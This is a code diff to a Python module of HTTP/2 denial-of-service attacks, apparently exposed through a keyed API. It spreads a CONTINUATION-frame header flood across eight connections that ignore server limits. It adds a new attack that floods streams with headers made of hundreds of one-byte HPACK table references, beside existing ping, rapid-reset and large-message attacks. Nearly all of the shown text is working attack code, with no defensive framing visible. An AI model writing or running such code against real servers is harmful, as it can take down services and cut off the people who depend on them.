@@ -161,9 +161,27 @@ POST = b"\x83\x86" + b"\x04" + bytes([len(PATH)]) + PATH + b"\x0f\x10\x10applica
 
 
 def continuations(address: Address, size: int) -> None:
-    """Headers that go on from frame to frame."""
+    """Headers that go on from frame to frame, from eight connections that never acknowledge the server's limits."""
     field = b"\x00\x01a\x01b" * 2000
-    send(address, HELLO + _frame(1, 0, 1, POST), _frame(9, 0, 1, field), size)
+    _at_once(8, lambda: send(address, HELLO + _frame(1, 0, 1, POST), _frame(9, 0, 1, field), size // 8))
+
+
+def tiny_fields(address: Address, size: int) -> None:
+    """Calls whose headers are many fields of one byte each, from eight connections."""
+
+    def call() -> None:
+        peer = socket.create_connection(address, timeout=SECONDS)
+        reader = threading.Thread(target=_drop, args=(peer,), daemon=True)
+        reader.start()
+        fields = POST + b"\x40\x01a\x01b" + b"\xbe" * 450  # "a: b", and the same from the table
+        with suppress(OSError):
+            peer.sendall(HELLO)
+            for stream in range(1, 2 * min(size // 8 // len(fields), 2000), 2):
+                peer.sendall(_frame(1, 4, stream, fields))
+        reader.join(1)  # what was sent is being answered
+        peer.close()
+
+    _at_once(8, call)
 
 
 def pings(address: Address, size: int) -> None:
@@ -202,7 +220,7 @@ def large_messages(address: Address, size: int) -> None:
     _at_once(min(16, size // (5 * MIB)), call)
 
 
-RPC = {attack.__name__: attack for attack in (continuations, pings, rapid_reset, large_messages)}
+RPC = {attack.__name__: attack for attack in (continuations, tiny_fields, pings, rapid_reset, large_messages)}
 
 
 # ---- the API, with a key ------------------------------------------------------------------------------------
